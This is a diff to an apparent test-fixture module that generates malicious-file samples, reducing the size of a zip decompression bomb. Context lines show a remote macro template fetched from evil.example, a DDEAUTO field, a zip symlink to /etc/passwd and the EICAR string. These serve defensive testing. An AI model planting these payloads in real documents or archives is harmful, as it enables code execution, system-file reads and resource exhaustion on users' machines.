@@ -14,6 +14,7 @@ TEMPLATE = (
     b'<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://x/attachedTemplate"'
     b' Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
 )
+UNPACKED = 8 * 1024 * 1024  # of few bytes: more than is taken of an archive so small
 EICAR = b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE"
 DDE = b"<w:instrText>DDEAUTO c:\\windows</w:instrText>"
 
@@ -39,8 +40,8 @@ def zip_link(target: str = "/etc/passwd") -> bytes:
 
 def zip_that_lies() -> bytes:
     """Its directory says that 10 bytes come out; far more do."""
-    sound = zipped({"a": b"\0" * (300 * 1024 * 1024)})
-    return sound.replace(struct.pack("<I", 300 * 1024 * 1024), struct.pack("<I", 10))
+    sound = zipped({"a": bytes(UNPACKED)})
+    return sound.replace(struct.pack("<I", UNPACKED), struct.pack("<I", 10))
 
 
 def zip_overlapping() -> bytes:
